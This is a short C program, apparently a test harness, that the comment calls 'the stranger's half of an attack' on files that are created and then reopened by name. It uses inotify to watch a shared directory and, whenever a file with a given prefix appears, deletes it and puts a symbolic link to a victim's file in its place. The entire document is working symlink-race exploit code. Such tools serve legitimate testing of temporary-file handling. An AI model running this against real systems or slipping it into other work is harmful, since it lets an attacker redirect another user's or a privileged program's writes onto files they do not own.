// The stranger's half of an attack on files that are made and then opened again by their name: as soon as a name that
// begins with PREFIX comes into his directory, it is replaced by a symbolic link to a file of the victim's.
//
//   link_into SECONDS DIRECTORY PREFIX TARGET
//
// Ends with the time or its standard input. Prints the number of links that it made.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

// Replaces one name; returns whether it is a link now.
static int replace(const char *directory, const char *name, const char *target)
{
    char path[PATH_MAX];
    if (snprintf(path, sizeof path, "%s/%s", directory, name) >= (int)sizeof path)
        return 0;
    unlink(path);
    return symlink(target, path) == 0;
}

int main(int argc, char **argv)
{
    if (argc != 5) {
        fprintf(stderr, "usage: link_into SECONDS DIRECTORY PREFIX TARGET\n");
        return 64;
    }
    double end = now() + atof(argv[1]);
    int events = inotify_init1(IN_NONBLOCK);
    if (events < 0 || inotify_add_watch(events, argv[2], IN_CREATE | IN_MOVED_TO) < 0) {
        perror(argv[2]);
        return 1;
    }
    long links = 0;
    printf("ready\n");
    fflush(stdout);
    while (now() < end) {
        struct pollfd waits[2] = {{STDIN_FILENO, POLLIN, 0}, {events, POLLIN, 0}};
        if (poll(waits, 2, 100) < 0 && errno != EINTR)
            return 1;
        if (waits[0].revents)
            break;
        if (!(waits[1].revents & POLLIN))
            continue;
        _Alignas(struct inotify_event) char got[65536];
        ssize_t n = read(events, got, sizeof got);
        for (ssize_t at = 0; at < n;) {
            struct inotify_event *event = (struct inotify_event *)(got + at);
            at += sizeof *event + event->len;
            if (event->len && strncmp(event->name, argv[3], strlen(argv[3])) == 0)
                links += replace(argv[2], event->name, argv[4]);
        }
    }
    printf("%ld\n", links);
    return 0;
}
